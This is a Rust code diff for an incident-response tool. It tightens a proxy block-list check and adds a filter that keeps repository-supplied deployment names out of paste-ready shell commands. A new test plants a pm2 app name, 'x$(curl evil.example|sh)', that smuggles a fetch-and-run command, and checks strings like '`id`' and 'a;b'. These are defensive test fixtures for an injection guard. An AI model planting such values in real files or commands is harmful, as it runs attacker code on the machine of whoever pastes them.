@@ -314,9 +314,19 @@ fn check_status(
             problems.push(format!("session {s} is live and not revoked"));
         }
     }
-    let blocked = status["blocked"].to_string();
+    // The proxy lists blocks as CIDR text; an address counts when a block is exactly it
+    // (`a` or `a/32`, `a/128`) or the block the operator gave.
+    let blocked: Vec<&str> = status["blocked"]
+        .as_array()
+        .map(|a| a.iter().filter_map(Value::as_str).collect())
+        .unwrap_or_default();
     for a in targets.addresses.iter().filter(|a| !is_loopback(a)) {
-        if blocked.contains(a.as_str()) {
+        let host_block = |b: &&str| {
+            *b == a.as_str()
+                || b.split_once('/')
+                    .is_some_and(|(ip, bits)| ip == a.as_str() && (bits == "32" || bits == "128"))
+        };
+        if blocked.iter().any(host_block) {
             verified.push(format!("{a} blocked"));
         } else {
             problems.push(format!("{a} is not in the proxy's block list"));
@@ -392,15 +402,42 @@ fn first_compose_service(text: &str) -> Option<String> {
     None
 }
 
+/// Whether a name can go into a shell command unquoted. Names read from the
+/// repository are the attacker's text (the server may be what was compromised): one
+/// like `x$(curl …|sh)` would run on the responder's machine when pasted.
+fn shell_safe(v: &str) -> bool {
+    !v.is_empty()
+        && v.len() <= 200
+        && v.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"_.@:/=+-".contains(&b))
+}
+
 /// The paste-ready commands for what the product cannot do itself.
 pub fn manual_steps(repo: Option<&Path>, given: &Deployment) -> String {
-    let d = detect(repo, given);
+    let mut d = detect(repo, given);
+    let mut refused = Vec::new();
+    for v in [
+        &mut d.pm2,
+        &mut d.docker,
+        &mut d.docker_network,
+        &mut d.systemd,
+        &mut d.load_balancer,
+    ] {
+        if let Some(text) = v.take_if(|t| !shell_safe(t)) {
+            refused.push(text.escape_debug().to_string());
+        }
+    }
     let or = |v: &Option<String>, placeholder: &str| {
         v.clone().unwrap_or_else(|| placeholder.to_string())
     };
     let mut out = String::from(
         "Do NOT destroy the server process, container or host before triage and preserve are done: its memory, files and logs are evidence. Freeze or disconnect first; stop later; delete never (until the case is closed).\n",
     );
+    for r in &refused {
+        out.push_str(&format!(
+            "\nA deployment name was left out because it has characters a shell would act on: \"{r}\" — check it by hand before using it.\n"
+        ));
+    }
     let none_known =
         d.pm2.is_none() && d.docker.is_none() && d.systemd.is_none() && d.load_balancer.is_none();
     if none_known {
@@ -524,6 +561,25 @@ mod tests {
         assert!(!text.contains("\npm2 delete"));
         let unknown = manual_steps(None, &Deployment::default());
         assert!(unknown.contains("<container>") && unknown.contains("<pm2 app name>"));
+    }
+
+    #[test]
+    fn names_from_the_repository_never_reach_a_shell_unquoted() {
+        let dir = tempfile::tempdir().expect("tempdir");
+        std::fs::write(
+            dir.path().join("ecosystem.config.js"),
+            "module.exports = { apps: [{ name: 'x$(curl evil.example|sh)' }] }",
+        )
+        .expect("write");
+        let text = manual_steps(Some(dir.path()), &Deployment::default());
+        assert!(!text.contains("pm2 pid x$("), "{text}");
+        assert!(
+            text.contains("left out because it has characters a shell would act on"),
+            "{text}"
+        );
+        assert!(text.contains("<pm2 app name>"), "{text}");
+        assert!(shell_safe("mcp-server_1.service") && shell_safe("haproxy:back/srv1"));
+        assert!(!shell_safe("a b") && !shell_safe("a;b") && !shell_safe("`id`"));
     }
 
     #[test]
